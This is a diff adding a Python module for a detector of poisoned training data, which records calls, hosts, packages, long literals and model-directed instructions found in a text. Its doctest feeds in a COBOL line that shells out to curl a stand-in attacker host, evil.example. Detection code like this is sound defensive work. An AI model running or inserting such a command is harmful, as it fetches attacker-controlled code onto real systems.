@@ -1,0 +1,60 @@
+"""All that one text has of what poisoning leaves: looked at once, kept small, held against others.
+
+    >>> seen = look("           CALL 'SYSTEM' USING 'curl http://evil.example/x'.", "cobol", "program")
+    >>> [sink.code for sink in seen.sinks], sorted(map(str, seen.names))
+    (["CALL 'SYSTEM'"], ['host evil.example', 'program system'])
+
+It refuses to compare: what is new, and against whom, is for `provenance.steps.poison.weigh`.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from provenance.steps.poison.instructions import Instruction, instructions
+from provenance.steps.poison.names import Name, hosts, packages
+from provenance.steps.poison.payloads import Payload, payloads
+from provenance.steps.poison.reading import read, unwrapped
+from provenance.steps.poison.sinks import Sink, checks, commented, might, sinks
+from provenance.steps.shingles import comparable
+
+
+@dataclass(frozen=True, slots=True)
+class Look:
+    """What is in one text.
+
+    Attributes:
+        language, kind: of its record.
+        sinks: calls in code; laid: grave calls in comments.
+        names: hosts, addresses, packages, programs.
+        payloads: long literals; instructions: text that speaks to a model.
+        checks: statements that ask for an authority, with how often each stands there.
+    """
+
+    language: str
+    kind: str
+    sinks: tuple[Sink, ...] = ()
+    laid: tuple[Sink, ...] = ()
+    names: frozenset[Name] = frozenset()
+    payloads: tuple[Payload, ...] = ()
+    instructions: tuple[Instruction, ...] = ()
+    checks: tuple[tuple[str, int], ...] = ()
+
+    @property
+    def code(self) -> bool:
+        """Whether it is code at all: prose has nothing that a program could be held against."""
+        return self.language != "prose"
+
+
+def look(text: str, language: str, kind: str) -> Look:
+    """Look at a record's text; the text of a pair is taken apart into code and prose."""
+    code, prose = unwrapped(text, kind)
+    lean = comparable(code, language)
+    plain = f"{lean}\n{prose}" if prose else lean
+    found, laid, asked = [], [], {}
+    if might(code, language):
+        reading = read(code, language)
+        found, laid, asked = sinks(reading, language), commented(reading, language), checks(reading, language)
+    names = hosts(plain) | (packages(lean, language) if language != "prose" else set())
+    return Look(language, kind, tuple(found), tuple(laid), frozenset(names), tuple(payloads(plain)), tuple(instructions(plain)),
+                tuple(sorted(asked.items())))
